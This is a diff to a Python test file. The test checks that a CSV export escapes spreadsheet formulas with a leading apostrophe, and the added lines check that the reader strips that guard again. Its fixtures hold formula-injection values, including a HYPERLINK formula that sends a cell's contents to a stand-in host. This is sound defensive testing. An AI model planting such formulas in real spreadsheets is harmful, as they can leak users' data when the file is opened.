@@ -51,6 +51,9 @@ def test_collect_csv_never_holds_a_formula_and_numbers_stay_numbers(tmp_path):
     assert frame.loc[0, "kendala"] == "'" + '=HYPERLINK("http://x/?"&A1)'
     assert frame.loc[0, "uraian_kegiatan"] == "'@SUM(1+1)"
     assert frame.loc[0, "anggaran"] == table.loc[0, "anggaran"].astype(int).astype(str)
+    back = read_reports(out)  # the workbench reads its own guard back off: no data changed
+    assert back.loc[0, "kendala"] == '=HYPERLINK("http://x/?"&A1)'
+    assert back.loc[0, "uraian_kegiatan"] == "@SUM(1+1)"
 
 
 @pytest.mark.parametrize(
